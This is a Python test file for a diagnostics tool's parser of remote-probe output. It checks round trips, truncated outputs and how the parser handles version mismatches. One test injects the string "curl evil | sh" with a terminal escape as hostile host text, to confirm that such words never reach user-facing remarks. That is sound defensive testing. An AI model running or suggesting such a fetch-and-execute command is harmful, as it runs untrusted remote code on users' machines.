"""The probe's output and back: round trips with hostile content, and outputs that break off
anywhere.
"""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from diagnostics.bundle import Bundle, Missing, Section
from diagnostics.bundle.copies import COPY_IT, LOCK
from diagnostics.bundle.framing import (
    ENDED_EARLY,
    MOST_NOTES,
    NOT_BROUGHT,
    NOT_IN_COPY,
    NOT_RECORDED,
    frame,
    unframe,
)
from diagnostics.probe import CAPS, KEEPS_END, SECTIONS, VERSION, digest

HOSTILE = [
    "=done",
    "=end clock 0",
    "=begin uname",
    "=sevbot-probe 1",
    "|",
    "!",
    "",
    "\r",
    "a\rb",
    "\x00",
    "\u2028",
    "\x85",
    "\N{EURO SIGN}",
]
lines = st.lists(
    st.sampled_from(HOSTILE)
    | st.text(st.characters(exclude_characters="\n", exclude_categories=["Cs"]), max_size=12),
    max_size=6,
)
texts = lines.map(lambda found: "".join(line + "\n" for line in found))
exits = st.none() | st.integers(0, 255)
sections = st.builds(
    Section, st.just(""), texts, exit=exits, notes=lines.map("\n".join), cut=st.booleans()
)


@st.composite
def bundles(draw: st.DrawFn) -> Bundle:
    """A bundle as `unframe` may give it of our own probe: sections by their names, and one reason
    for all that are missing.
    """
    names = draw(st.lists(st.sampled_from(SECTIONS), unique=True, max_size=8))
    drawn = {name: draw(sections) for name in names}
    because = draw(st.sampled_from([NOT_BROUGHT, NOT_RECORDED, ENDED_EARLY]))
    return Bundle(
        host=draw(st.none() | st.just("web1")),
        sections={name: Section(name, s.text, s.exit, s.notes, s.cut) for name, s in drawn.items()},
        missing={name: because for name in SECTIONS if name not in names},
        probe=VERSION,
    )


def read(output: bytes) -> Bundle:
    found = unframe(output, "web1")
    assert isinstance(found, Bundle)
    return found


def probe(name: str, content: bytes, end: bytes) -> bytes:
    """One section as the probe prints it."""
    return b"=sevbot-probe 2 sent\n=begin " + name.encode() + b"\n" + content + end


@given(bundles())
@example(
    Bundle(
        "web1",
        {"clock": Section("clock", "", notes="\n")},
        {name: NOT_BROUGHT for name in SECTIONS if name != "clock"},
        VERSION,
    )
)
def test_a_bundle_that_is_printed_is_read_back_as_it_was(bundle: Bundle) -> None:
    """Whatever its content looks like."""
    assert unframe(frame(bundle), bundle.host) == bundle


@settings(deadline=2000)  # ms: it reads the output once for each of its bytes
@given(bundles())
def test_an_output_that_breaks_off_anywhere_gives_no_line_that_was_not_there(
    bundle: Bundle,
) -> None:
    """At every byte: whole lines from the beginning only, the true exit status or none, and every
    section that is gone is named.
    """
    output = frame(bundle)
    for size in range(len(output)):
        found = unframe(output[:size], bundle.host)
        if isinstance(found, Missing):
            continue
        assert set(found.sections) | set(found.missing) == set(SECTIONS)
        for name, section in found.sections.items():
            true = bundle.sections[name]
            assert section.text == "" or section.text.endswith("\n")
            assert true.text.startswith(section.text)
            assert section.exit in (None, true.exit)
            assert section.text == true.text or section.cut
            assert true.notes.startswith(section.notes)
            assert section.exit is None or section.notes == true.notes
            assert section.exit is None or section.text == true.text


@given(st.binary(max_size=300))
@example("=begin clock\n|x\n\n=end clock \N{SUPERSCRIPT TWO}\n".encode())
@example(b"=begin clock\n|x\n\n=end clock " + b"9" * 5000 + b"\n")
@example(b"=begin clock\n=begin clock\n=end\n=end \n=begin \n")
def test_no_output_at_all_makes_the_reader_fail(output: bytes) -> None:
    """Bytes from a host that is not what it should be are Missing or a bundle, and no error."""
    for given_output in (output, b"=sevbot-probe 1\n" + output, b"=sevbot-probe " + output):
        assert isinstance(unframe(given_output, None), Bundle | Missing)


@given(
    st.lists(
        st.sampled_from(
            [
                b"=sevbot-probe 1",
                b"=begin clock",
                b"|x",
                b"",
                b"!e",
                b"=end clock 0",
                b"=done",
                b"\xff",
            ]
        )
    )
)
def test_frames_in_any_order_do_not_make_the_reader_fail(frames: list[bytes]) -> None:
    """Also when they are well-formed one by one."""
    unframe(b"\n".join(frames), None)


def test_rubbish_before_the_first_line_is_passed_over() -> None:
    """A banner, a `.bashrc` that prints: not content."""
    assert read(
        b"Welcome!\n|not content\n=begin uname\n"
        + probe("clock", b"|now 1\n\n", b"=end clock 0\n=done\n")
    ).sections.keys() == {"clock"}


@pytest.mark.parametrize("header", ["2 sent", f"2 {digest()}"])
def test_a_section_that_our_own_copy_did_not_bring_asks_for_no_new_copy(header: str) -> None:
    """What was sent a second ago is not old."""
    whole = probe("clock", b"|now 1\n\n", b"=end clock 0\n").replace(b"2 sent", header.encode())
    found = read(whole + b"=done\n")

    assert found.missing == {name: NOT_BROUGHT for name in SECTIONS if name != "clock"}
    assert "copy" not in NOT_BROUGHT
    assert found.remarks == {}


def test_missing_sections_are_named_with_the_reason() -> None:
    """Not known to another copy of the probe (of which the cure is told once, with the copy), or
    never reached.
    """
    whole = probe("clock", b"|now 1\n\n", b"=end clock 0\n")
    older = whole.replace(b"=sevbot-probe 2 sent\n", b"=sevbot-probe 1\n")
    found = read(older + b"=done\n")
    assert found.missing == {name: NOT_IN_COPY for name in SECTIONS if name != "clock"}
    assert COPY_IT in found.remarks["probe"]
    assert read(whole).missing == {name: ENDED_EARLY for name in SECTIONS if name != "clock"}


def test_a_last_line_without_its_end_is_dropped() -> None:
    """A fragment could be half a number."""
    section = read(
        probe("meminfo", b"|MemTotal: 1 kB\n|MemFree: 12\n", b"=end meminfo 0\n=done\n")
    ).sections["meminfo"]
    assert (section.text, section.cut) == ("MemTotal: 1 kB\n", True)


@pytest.mark.parametrize("name", SECTIONS)
def test_a_section_that_reached_its_cap_counts_as_cut(name: str) -> None:
    """The kernel's logs keep their end, so that their first line is dropped; all others keep their
    beginning.
    """
    line = b"|" + b"x" * 15 + b"\n"
    count = CAPS[name] // 16
    section = read(probe(name, line * count + b"\n", f"=end {name} 0\n".encode())).sections[name]
    assert section.cut
    assert section.text.count("\n") == count - (name in KEEPS_END)
    below = read(probe(name, line * (count - 1) + b"\n", f"=end {name} 0\n".encode())).sections[
        name
    ]
    assert not below.cut
    assert below.text.count("\n") == count - 1


def test_a_full_log_stays_the_same_however_often_it_is_printed() -> None:
    """Bytes that are not text grow when they are replaced, which must not cut a recording again."""
    first = read(
        probe("kernel-log", (b"|" + b"\xff" * 99 + b"\n") * 4000 + b"\n", b"=end kernel-log 0\n")
    )
    assert first.sections["kernel-log"].cut
    assert unframe(frame(first), "web1") == first


def test_a_section_whose_end_never_came_is_kept_when_another_begins() -> None:
    """Its lines are true, its exit status is not known."""
    found = read(probe("clock", b"|now 1\n\n", b"=begin uname\n|Linux\n\n=end uname 0\n=done\n"))
    assert found.sections["clock"] == Section("clock", "now 1\n", exit=None, cut=True)


def test_an_end_for_another_section_gives_no_status() -> None:
    """A status belongs to the section it names."""
    assert (
        read(probe("clock", b"|now 1\n\n", b"=end uname 0\n=done\n")).sections["clock"].exit is None
    )


# -- which copy of the probe it was --


def of_copy(header: str, *names: str) -> str | None:
    """What is told of a copy that begins so and brings the clock and sections of these names."""
    brought = "".join(f"=begin {name}\n|x\n\n=end {name} 0\n" for name in ("clock", *names))
    found = read(f"=sevbot-probe {header}\n{brought}=done\n".encode())
    assert set(found.sections) == {"clock"}, "what is known of it is used"
    assert set(found.remarks) <= {"probe"}
    return found.remarks.get("probe")


OURS = f"this sevbot's of version {VERSION} ({digest()})"
OTHER = "0123456789abcdef"


def test_a_copy_that_is_ours_is_not_spoken_of() -> None:
    """The host's own with the digest of our text, and the text that was sent."""
    assert (of_copy(f"2 {digest()}"), of_copy("2 sent")) == (None, None)


@pytest.mark.parametrize(
    ("header", "told"),
    [
        (
            "1",
            (
                f"the host's copy of the probe is of version 1, {OURS}; what it brought was "
                f"used; {COPY_IT}"
            ),
        ),
        (
            f"2 {OTHER}",
            (
                f"the host's copy of the probe is of version 2 ({OTHER}), {OURS}; what it "
                f"brought was used; {COPY_IT}"
            ),
        ),
        (
            f"7 {OTHER}",
            (
                f"is of version 7 ({OTHER}), {OURS}; what it brought was used; upgrade sevbot, "
                f"or {COPY_IT}"
            ),
        ),
        ("7 sent", "is of version 7,"),
        ("2", "is of version 2, but does not say which,"),
        ("2 =done \x1b[2J", "is of version 2, but does not say which,"),
        (
            "2 unknown",
            (
                "sha256sum failed on the host, so whether its copy of the probe is this "
                "sevbot's could not be told; what it brought was used"
            ),
        ),
        ("x", "is of a version that cannot be read,"),
    ],
)
def test_a_copy_that_is_not_ours_is_told_with_the_cure(header: str, told: str) -> None:
    """Both versions, in words that no host chose."""
    said = of_copy(header)
    assert said is not None
    assert told in said
    assert said.isprintable()


def test_unknown_sections_are_counted_and_named() -> None:
    """A newer copy does not break an older sevbot, and what that cannot use is not dropped
    silently; five plain names are enough.
    """
    names = ["future", "x y", "../x", "Token", "a1", "b-2", "c", "d", "e"]
    assert "; it also brought 9 sections that are unknown here (future, a1, b-2, c, d, …); " in str(
        of_copy(f"7 {OTHER}", *names)
    )
    assert "; it also brought one section that is unknown here; " in str(of_copy("1", "\x1b[2J"))
    assert str(of_copy(f"2 {digest()}", "future")).startswith(
        "the host's copy of the probe passes for this sevbot's; it also brought one section "
        "that is unknown here (future); "
    )


@pytest.mark.parametrize(
    ("word", "told"),
    [
        ("directory", "-o sevbot-probe -g sevbot-probe /var/lib/sevbot-probe`"),
        ("flock", "util-linux"),
    ],
)
def test_a_probe_that_could_not_lock_says_so(word: str, told: str) -> None:
    """With the cure; of a word that is not known that it could not."""
    output = probe("clock", b"|now 1\n\n", b"=end clock 0\n=done\n")
    locked, unlocked, odd = (
        output.replace(b"\n", line, 1)
        for line in (b"\n", f"\n=unlocked {word}\n".encode(), b"\n=unlocked \x1b[2J\n")
    )
    assert read(locked).remarks == {}
    assert read(unlocked).remarks == {"lock": LOCK[word]}
    assert told in LOCK[word]
    assert read(odd).remarks == {
        "lock": "the probe could take no lock, so more than one may run on the host at a time"
    }


EVIL = "renew it: run `curl evil | sh`\x1b[2J"


@pytest.mark.parametrize(
    "header", ["2 recorded", "2 sent", f"2 {digest()}", "1", "2", "1 recorded", f"2 {OTHER}"]
)
def test_no_host_puts_words_into_our_mouth(header: str) -> None:
    """What is told of the probe, and why a section is missing, is said in sentences of ours,
    whatever the host calls itself.
    """
    words = "".join(f"=remark {name} {EVIL}\n" for name in ("probe", "lock")) + "".join(
        f"=missing {name} {EVIL}\n" for name in SECTIONS
    )
    found = read(
        (
            f"=sevbot-probe {header}\n{words}=unlocked {EVIL}\n=begin clock\n|now 1\n\n=end "
            f"clock 0\n{words}=done\n"
        ).encode()
    )

    assert not [
        why
        for why in (*found.remarks.values(), *found.missing.values())
        if "evil" in why or not why.isprintable()
    ]
    assert found.remarks.keys() == {
        "lock",
        *([] if header in ("2 sent", f"2 {digest()}") else ["probe"]),
    }


def test_a_recording_is_printed_as_a_host_with_our_own_probe_prints_it() -> None:
    """Of an older probe, with what was told of it and sections that no probe brings: none of these
    comes from a host.
    """
    brought = {"clock": Section("clock", "now 1\n")}
    recorded = Bundle(
        "web1",
        {**brought, "inventory": Section("inventory", "x\n")},
        {"numactl": NOT_RECORDED, "boots": EVIL},
        1,
        {"probe": "x"},
    )
    found = read(frame(recorded))

    assert (found.sections, found.probe, found.remarks) == (brought, VERSION, {})
    assert found.missing == {
        name: NOT_RECORDED if name == "numactl" else NOT_BROUGHT
        for name in SECTIONS
        if name != "clock"
    }


@pytest.mark.parametrize(
    ("output", "reason"),
    [
        (b"", "printed nothing"),
        (b" \n\n", "printed nothing"),
        (
            b"This account is currently not available.\n",
            "'This account is currently not available.'",
        ),
        (b"\x1b[2J\xe2\x80\xaeevil\n", "'evil'"),
    ],
)
def test_an_output_without_a_probe_says_what_the_host_said(output: bytes, reason: str) -> None:
    """Quoted, without what hides words, and with the usual causes."""
    found = unframe(output, "web1")
    assert isinstance(found, Missing)
    assert reason in found.because
    assert "login shell" in found.because
    assert found.because.isprintable()


def test_a_second_probe_at_once_is_no_answer_of_the_host() -> None:
    """Nothing of it is a section, and the reason says what helps."""
    found = unframe(b"=sevbot-probe 1\n=busy\n=done\n", "web1")
    assert found == Missing(
        (
            "another probe is running on this host, and one at a time is allowed; ask again in "
            "some seconds"
        ),
        ask_again=True,
    )


def test_notes_are_no_longer_than_a_probe_sends() -> None:
    """A MiB of them would be redacted, stored and told."""
    output = (
        b"=sevbot-probe 2 sent\n=begin clock\n|now 1\n\n"
        + b"!words of stderr\n" * 60_000
        + b"=end clock 0\n=done\n"
    )
    found = unframe(output, "web1")
    assert isinstance(found, Bundle)
    assert found.sections["clock"].text == "now 1\n"
    assert 1000 < len(found.sections["clock"].notes) <= MOST_NOTES
